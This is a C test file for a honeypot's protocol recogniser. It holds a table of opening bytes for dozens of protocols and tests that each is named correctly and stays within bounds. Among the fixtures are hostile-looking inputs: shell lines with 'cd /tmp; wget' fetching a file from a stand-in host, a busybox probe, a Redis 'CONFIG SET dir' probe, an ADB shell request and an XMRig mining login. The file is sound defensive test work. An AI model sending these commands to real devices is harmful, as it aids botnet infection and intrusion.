#include "trap/protocol-inside.h"

#include <stdio.h>
#include <stdlib.h>

#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>

#define BYTES(s) s, sizeof(s) - 1

/*
 * What visitors say first, and what it is called. Made by hand after the protocols' documents.
 * over: only once it is known that no more will come. host, agent: NULL where the row does not ask.
 */
/* clang-format off */
static const struct {
    const char *name, *bytes; /* "-": unknown */
    size_t n;
    const char *host, *agent;
    bool over;
} said[] = {
    { "smb1", BYTES("\000\000\000T\377SMBr"), NULL, NULL },
    { "smb2", BYTES("\000\000\000l\376SMB@\000"), NULL, NULL },
    { "smb2", BYTES("\000\000\000l\375SMB"), NULL, NULL },
    { "netbios", BYTES("\201\000\000D CKFDENECFDEFFCFGEFFCCACACACACACA\000"), NULL, NULL },
    { "postgres", BYTES("\000\000\000\010\004\322\026/"), NULL, NULL },
    { "postgres", BYTES("\000\000\000\010\004\322\0260"), NULL, NULL },
    { "postgres", BYTES("\000\000\000\020\004\322\026.\000\000\000\001\000\000\000\002"), NULL, NULL },
    { "postgres", BYTES("\000\000\000\"\000\003\000\000user\000postgres\000database\000x\000\000"), "", "postgres" },
    { "hikvision", BYTES("\000\000\000 c\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "hikvision", BYTES("\000\000\000TZ\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "smart-install", BYTES("\000\000\000\001\000\000\000\001\000\000\000\004"), NULL, NULL },
    { "tuya", BYTES("\000\000U\252\000\000\000\000\000\000\000\n\000\000\000\010"), NULL, NULL },
    { "tplink", BYTES("\000\000\000\035\320\362\201\370\213\377\232\367\325"), NULL, NULL },
    { "oracle", BYTES("\000Z\000\000\001\000\000\000\0016\001 (CONNECT_DATA=(COMMAND=version))"), NULL, NULL },
    { "stun", BYTES("\000\001\000\000!\022\244BTTTTTTTTTTTT"), NULL, NULL },
    { "openvpn", BYTES("\000\0168SESSIONI\000\000\000\000\000"), NULL, NULL },
    { "pptp", BYTES("\000\234\000\001\032+<M\000\001\000\000"), NULL, NULL },
    { "dicom", BYTES("\001\000\000\000\000\315\000\001\000\000ANY-SCP         "), NULL, NULL },
    { "s7", BYTES("\003\000\000\026\021\340\000\000\000\024\000\301\002\001\000\302\002\001\002\300\001\n"), NULL, NULL },
    { "h323", BYTES("\003\000\0001\010\002\000\001"), NULL, NULL },
    { "rdp", BYTES("\003\000\000+&\340\000\000\000\000\000Cookie: mstshash=hello\r\n\001\000\010\000\003\000\000\000"), "", "hello" },
    { "rdp", BYTES("\003\000\000\023\016\340\000\000\000\000\000\001\000\010\000\013\000\000\000"), NULL, NULL },
    { "rdp", BYTES("\003\000\000\013\006\340\000\000\000\000\000"), NULL, NULL },
    { "rtmp", BYTES("\003\000\000\001\002\000\000\000\000RRRRRRRRRRRRRRRRRRRR"), NULL, NULL },
    { "socks4", BYTES("\004\001\000P\300\000\002\001\000"), "192.0.2.1:80", "" },
    { "socks4", BYTES("\004\001\001\273\000\000\000\001me\000example.com\000"), "example.com:443", "" },
    { "dnp3", BYTES("\005d\005\311\000\000\000\0006"), NULL, NULL },
    { "msrpc", BYTES("\005\000\013\003\020\000\000\000H\000\000"), NULL, NULL },
    { "socks5", BYTES("\005\001\000"), NULL, NULL },
    { "socks5", BYTES("\005\002\000\002"), NULL, NULL },
    { "mqtt", BYTES("\020\024\000\004MQTT\004\002\000<\000\010sensor-1"), "", "sensor-1" },
    { "mqtt", BYTES("\020\017\000\006MQIsdp\003\002\000<\000\001x"), "", "x" },
    { "mqtt", BYTES("\020\020\000\004MQTT\005\002\000<\000\000\003abc"), NULL, NULL },
    { "ajp", BYTES("\0224\001\000\002\002\000\010"), NULL, NULL },
    { "ajp", BYTES("\0224\000\001\n"), NULL, NULL },
    { "mssql", BYTES("\022\001\0004\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "winbox", BYTES("\022\002list\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "winbox", BYTES("\023\002index\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "winbox", BYTES("h\001\000fM2\005\000\377\001\006\000"), NULL, NULL },
    { "winbox", BYTES("'\006admin\000KKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKK\001"), "", "admin" },
    { "routeros", BYTES("\006/login\000"), NULL, NULL },
    { "routeros", BYTES("\017/system/package\000"), NULL, NULL },
    { "bittorrent", BYTES("\023BitTorrent protocol"), NULL, NULL },
    { "opentelnet", BYTES("\023OpenTelnet:OpenOnce"), NULL, NULL },
    { "opentelnet", BYTES("OpenTelnet:OpenOnce"), NULL, NULL },
    { "tls", BYTES("\026\003\001\000f\001\000\000b\003\003RRRRRRRRRRRRRRRRRRRRRRRRRRRRRRRR\000\000\004\023\001\300/\001\000\0005\000\000\000\024\000\022\000\000\017www.example.com\000\020\000\016\000\014\002h2\010http/1.1\000+\000\007\006\n\n\003\004\003\003"), "www.example.com", "TLS 1.3 h2,http/1.1" },
    { "tls", BYTES("\026\003\001\000/\001\000\000+\003\003RRRRRRRRRRRRRRRRRRRRRRRRRRRRRRRR\000\000\004\023\001\300/\001\000"), "", "TLS 1.2" },
    { "tls", BYTES("\200.\001\000\002\000\025\000\000\000\020"), NULL, NULL },
    { "tls", BYTES("\200a\001\003\001\000H"), NULL, NULL },
    { "tls", BYTES("\025\003\001\000\002\002("), NULL, NULL },
    { "dahua", BYTES(" \000\000\000DHIP\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000{\"method\":\"global.login\"}"), NULL, NULL },
    { "dahua", BYTES("\240\005\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\005\002\001\001\000\000\241\252admin&&x"), NULL, NULL },
    { "dahua", BYTES("\240\001\000`\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "dahua", BYTES("\241\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "dahua", BYTES("\366\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "ldap", BYTES("0\014\002\001\001`\007\002\001\003\004\000\200\000"), NULL, NULL },
    { "ldap", BYTES("0\204\000\000\000-\002\001\001c\204\000\000"), NULL, NULL },
    { "snmp", BYTES("0&\002\001\001\004\006public\240\031"), NULL, NULL },
    { "x11", BYTES("l\000\013\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "x11", BYTES("B\000\000\013\000\000\000\000"), NULL, NULL },
    { "enip", BYTES("\004\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "enip", BYTES("c\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "enip", BYTES("e\000\004\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "iec104", BYTES("h\004\007\000\000\000"), NULL, NULL },
    { "iec104", BYTES("h\004C\000\000\000"), NULL, NULL },
    { "sunrpc", BYTES("\200\000\000(r\376\035\023\000\000\000\000\000\000\000\002\000\001\206\240"), NULL, NULL },
    { "memcached", BYTES("\200\013\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "memcached", BYTES("stats\r\n"), NULL, NULL },
    { "memcached", BYTES("version\r\n"), NULL, NULL },
    { "memcached", BYTES("set a 0 0 1\r\nx\r\n"), NULL, NULL },
    { "java", BYTES("\254\355\000\005sr"), NULL, NULL },
    { "reolink", BYTES("\360\336\274\n\001\000\000\000,\007\000\000"), NULL, NULL },
    { "reolink", BYTES("\017\355\313\240"), NULL, NULL },
    { "bitcoin", BYTES("\371\276\264\331version\000\000\000\000\000"), NULL, NULL },
    { "xiongmai", BYTES("\377\001\000\000\000\000\000\000\000\000\000\000\000\000\350\003\024\000\000\000{\"LoginType\":\"x\"}\n\000\000"), NULL, NULL },
    { "telnet", BYTES("\377\375\001\377\373\037"), NULL, NULL },
    { "telnet", BYTES("\377\373\030"), NULL, NULL },
    { "ssh", BYTES("SSH-2.0-Go\r\n"), "", "SSH-2.0-Go" },
    { "adb", BYTES("CNXN\000\000\000\001\000\000\004\000\030\000\000\000\355\010\000\000\274\261\247\261host::features=shell_v2\000"), "", "host::features=shell_v2" },
    { "adb", BYTES("OPEN\001\000\000\000\000\000\000\000\011\000\000\000\037\003\000\000\260\257\272\261shell:id\000"), NULL, NULL },
    { "adb", BYTES("AUTH\002\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\276\252\253\267"), NULL, NULL },
    { "adb", BYTES("STLS\000\000\000\001\000\000\000\000\000\000\000\000\000\000\000\000\254\253\263\254"), NULL, NULL },
    { "adb", BYTES("SYNC\001\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\254\246\261\274"), NULL, NULL },
    { "vnc", BYTES("RFB 003.008\n"), NULL, NULL },
    { "jdwp", BYTES("JDWP-Handshake"), NULL, NULL },
    { "rmi", BYTES("JRMI\000\002K"), NULL, NULL },
    { "t3", BYTES("t3 12.2.1\nAS:255\n"), NULL, NULL },
    { "giop", BYTES("GIOP\001\002\001\003"), NULL, NULL },
    { "amqp", BYTES("AMQP\000\000\011\001"), NULL, NULL },
    { "rsync", BYTES("@RSYNCD: 31.0\n"), NULL, NULL },
    { "pjl", BYTES("@PJL INFO ID\r\n"), NULL, NULL },
    { "pjl", BYTES("\033%-12345X@PJL INFO ID\r\n"), NULL, NULL },
    { "fox", BYTES("fox a 1 -1 fox hello\n"), NULL, NULL },
    { "elasticsearch", BYTES("ES\000\000\000\031"), NULL, NULL },
    { "sercomm", BYTES("MMcS\377\377\377\377"), NULL, NULL },
    { "sercomm", BYTES("ScMM\000\000\000\001"), NULL, NULL },
    { "zookeeper", BYTES("ruok"), NULL, NULL },
    { "zookeeper", BYTES("srvr"), NULL, NULL },
    { "xml", BYTES("<?xml version=\"1.0\"?>"), NULL, NULL },
    { "xml", BYTES("<policy-file-request/>\000"), NULL, NULL },
    { "xmpp", BYTES("<stream:stream xmlns='jabber:client'>"), NULL, NULL },
    { "redis", BYTES("*1\r\n$4\r\nPING\r\n"), NULL, NULL },
    { "redis", BYTES("*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n"), NULL, NULL },
    { "redis", BYTES("PING\r\n"), NULL, NULL },
    { "redis", BYTES("INFO\r\n"), NULL, NULL },
    { "redis", BYTES("CONFIG SET dir /tmp\r\n"), NULL, NULL },
    { "stratum", BYTES("{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n"), NULL, NULL },
    { "stratum", BYTES("{\"method\":\"login\",\"params\":{\"login\":\"x\",\"pass\":\"y\",\"agent\":\"XMRig\"}}\n"), NULL, NULL },
    { "json", BYTES("{\"command\":\"version\"}\n"), NULL, NULL },
    { "git", BYTES("0032git-upload-pack /x.git\000"), NULL, NULL },
    { "rlogin", BYTES("\000me\000root\000xterm/38400\000"), "", "root" },
    { "lpd", BYTES("\003default \n"), NULL, NULL },
    { "lpd", BYTES("\002lp\n"), NULL, NULL },
    { "newline", BYTES("\r\n\r\n"), NULL, NULL, true },
    { "newline", BYTES("\n"), NULL, NULL, true },
    { "http", BYTES("GET / HTTP/1.1\r\nHost: 192.0.2.1:8080\r\nUser-Agent:  Hello, World \r\n\r\n"), "192.0.2.1:8080", "Hello, World" },
    { "http", BYTES("GET /shell?cd /tmp;wget http://192.0.2.9/a HTTP/1.0\r\n\r\n"), NULL, NULL },
    { "http", BYTES("GET /x\r\n"), NULL, NULL },
    { "http", BYTES("\r\nPOST /HNAP1/ HTTP/1.0\r\nContent-Length: 5\r\n\r\n"), NULL, NULL },
    { "http", BYTES("head / http/1.1\n\n"), NULL, NULL },
    { "http2", BYTES("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), NULL, NULL },
    { "proxy", BYTES("CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n"), "example.com:443", "" },
    { "proxy", BYTES("GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n"), "example.com", "" },
    { "ssdp", BYTES("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n\r\n"), NULL, NULL },
    { "rtsp", BYTES("DESCRIBE rtsp://192.0.2.1/ch0 RTSP/1.0\r\nCSeq: 2\r\nUser-Agent: LibVLC\r\n\r\n"), "", "LibVLC" },
    { "rtsp", BYTES("OPTIONS / RTSP/1.0\r\n\r\n"), NULL, NULL },
    { "sip", BYTES("OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm\r\nUser-Agent: friendly-scanner\r\n\r\n"), "", "friendly-scanner" },
    { "icap", BYTES("OPTIONS icap://192.0.2.1/x ICAP/1.0\r\n\r\n"), NULL, NULL },
    { "smtp", BYTES("EHLO example.com\r\n"), NULL, NULL },
    { "smtp", BYTES("helo x\r\n"), NULL, NULL },
    { "pop3", BYTES("CAPA\r\n"), NULL, NULL },
    { "ftp", BYTES("USER anonymous\r\n"), NULL, NULL },
    { "irc", BYTES("NICK bot\r\n"), NULL, NULL },
    { "asterisk", BYTES("Action: Login\r\n"), NULL, NULL },
    { "shell", BYTES("cd /tmp; wget http://192.0.2.9/x\n"), NULL, NULL },
    { "shell", BYTES("enable\r\n"), NULL, NULL },
    { "shell", BYTES("/bin/busybox ECCHI\n"), NULL, NULL },
    { "shell", BYTES("\r\nsh\r\n"), NULL, NULL },
    { "text", BYTES("root\r\n"), NULL, NULL },
    { "text", BYTES("hello there\n"), NULL, NULL },
    { "text", BYTES("\r\nadmin\r\n"), NULL, NULL },
    { "text", BYTES("root"), NULL, NULL, true },
    { "http", BYTES("GET / HTTP/1.1\r\nHost: 192.0.2.1"), NULL, NULL, true },
    { "http", BYTES("GET /"), NULL, NULL, true },
    { "tls", BYTES("\026\003\001\000f\001\000\000b\003\003RRRRRRRRRRRRRRRRRRRRRRRRRRRRRRRR\000\000\004\023\001\300/\001\000\0005\000\000\000\024\000\022"), "", "TLS 1.2", true },
    { "mongodb", BYTES("\037\000\000\000\001\000\000\000\000\000\000\000\324\007\000\000\000\000\000\000admin.$cmd\000"), NULL, NULL },
    { "mongodb", BYTES("\025\000\000\000\001\000\000\000\000\000\000\000\335\007\000\000\000\000\000\000\000"), NULL, NULL },
    { "mysql", BYTES(":\000\000\001\205\246?\000\000\000\000\001!\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000root\000\024AAAAAAAAAAAAAAAAAAAA"), "", "root" },
    { "modbus", BYTES("\000\001\000\000\000\006\001\003\000\000\000\n"), NULL, NULL },
    { "modbus", BYTES("\000\000\000\000\000\005\001+\016\002\000"), NULL, NULL },
    { "dns", BYTES("\000\036\0224\001\000\000\001\000\000\000\000\000\000\007version\004bind\000\000\020\000\001"), "version.bind", "" },
    { "dns", BYTES("\000!\0224\001\000\000\001\000\000\000\000\000\000\003www\007example\003com\000\000\001\000\001"), "www.example.com", "" },
    { "-", BYTES("\336\255\276\357\336\255\276\357\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "-", BYTES("\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "-", BYTES("\001\002\003\004\005\006\007\010\221\221\221\221\221\221\221\221\221\221\221\221\221\221\221\221"), NULL, NULL },
    { "-", BYTES("A\000B\000C\000D\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
    { "-", BYTES("\026\003\001\000\002\001\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"), NULL, NULL },
};
/* clang-format on */
enum { SAID = sizeof said / sizeof said[0] };

static bool is_unknown(size_t i)
{
    return strcmp(said[i].name, "-") == 0;
}

/* Of bytes that a sanitizer watches the end of. */
static enum protocol_verdict name_of(const void *bytes, size_t n, bool over, struct protocol *ret)
{
    uint8_t *copy = malloc(n ? n : 1);
    memcpy(copy, bytes, n);
    enum protocol_verdict v = protocol_name(copy, n, over, ret);
    free(copy);
    return v;
}

static void check_words(size_t i, const struct protocol_words *w, const char *wanted)
{
    if (wanted && (w->n != strlen(wanted) || memcmp(w->text, wanted, w->n) != 0))
        fail_msg("%zu (%s): %.*s", i, said[i].name, (int)w->n, w->text);
}

static void test_names(void **state)
{
    (void)state;
    for (size_t i = 0; i < SAID; i++) {
        struct protocol p = { 0 };
        enum protocol_verdict v = name_of(said[i].bytes, said[i].n, said[i].over, &p);
        if (v != (is_unknown(i) ? PROTOCOL_UNKNOWN : PROTOCOL_NAMED))
            fail_msg("%zu (%s): verdict %d", i, said[i].name, v);
        if (is_unknown(i))
            continue;
        if (strcmp(p.name, said[i].name) != 0)
            fail_msg("%zu: %s, not %s", i, p.name, said[i].name);
        check_words(i, &p.host, said[i].host);
        check_words(i, &p.agent, said[i].agent);
    }
}

/* However little of it there is, it is that or wants more; whatever comes behind it, it stays that.
 */
static void test_steady(void **state)
{
    (void)state;
    for (size_t i = 0; i < SAID; i++) {
        struct protocol p;
        enum protocol_verdict last = PROTOCOL_MORE;
        for (size_t n = 0; n < said[i].n; n++) {
            enum protocol_verdict v = name_of(said[i].bytes, n, false, &p);
            if (v == PROTOCOL_NAMED && strcmp(p.name, said[i].name) != 0)
                fail_msg("%zu: of %zu bytes it is %s, not %s", i, n, p.name, said[i].name);
            if ((v == PROTOCOL_UNKNOWN && !is_unknown(i)) || (last != PROTOCOL_MORE && v != last))
                fail_msg("%zu (%s): of %zu bytes verdict %d", i, said[i].name, n, v);
            assert_int_not_equal(name_of(said[i].bytes, n, true, &p), PROTOCOL_MORE);
            last = v;
        }
        if (said[i].over)
            continue;
        for (int c = 0; c < 256; c += 51) {
            char more[1024];
            memcpy(more, said[i].bytes, said[i].n);
            memset(more + said[i].n, c, 64);
            enum protocol_verdict v = name_of(more, said[i].n + 64, false, &p);
            assert_int_equal(v, is_unknown(i) ? PROTOCOL_UNKNOWN : PROTOCOL_NAMED);
            if (!is_unknown(i))
                assert_string_equal(p.name, said[i].name);
        }
    }
}

/* Every row of the table has something above that it names. */
static void test_each_row(void **state)
{
    (void)state;
    const struct sign *s;
    for (size_t row = 0; (s = protocol_sign(row)); row++) {
        bool found = false;
        for (size_t i = 0; i < SAID && !found; i++)
            found = strcmp(said[i].name, s->name) == 0;
        if (!found)
            fail_msg("%s", s->name);
    }
}

/* What has no end is not waited for for ever, and a long word fills what has room for it and no
 * more. */
static void test_bounds(void **state)
{
    (void)state;
    static const char *const begins[] = { "GET /", "SSH-", "{\"",
                                          "A",     "\r\n", "\x16\x03\x01\x40\x00\x01",
                                          "USER ", "*",    "" };
    static char long_one[3 * PROTOCOL_LOOKS];
    for (size_t i = 0; i < sizeof begins / sizeof begins[0]; i++) {
        struct protocol p;
        memset(long_one, 'x', sizeof long_one);
        memcpy(long_one, begins[i], strlen(begins[i]));
        assert_int_not_equal(name_of(long_one, sizeof long_one, false, &p), PROTOCOL_MORE);
        assert_int_not_equal(name_of(long_one, PROTOCOL_LOOKS, false, &p), PROTOCOL_MORE);
    }
    struct protocol p;
    int n = snprintf(long_one, sizeof long_one,
                     "GET / HTTP/1.1\r\nUser-Agent: %01000d\r\nHost: %0300d\r\n\r\n", 1, 2);
    assert_int_equal(name_of(long_one, (size_t)n, false, &p), PROTOCOL_NAMED);
    assert_int_equal(p.agent.n, PROTOCOL_WORDS);
    assert_int_equal(p.host.n, PROTOCOL_WORDS);
    assert_int_equal(name_of("", 0, true, &p), PROTOCOL_UNKNOWN);
    assert_int_equal(name_of("", 0, false, &p), PROTOCOL_MORE);
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_names), cmocka_unit_test(test_steady),
                                        cmocka_unit_test(test_each_row),
                                        cmocka_unit_test(test_bounds) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
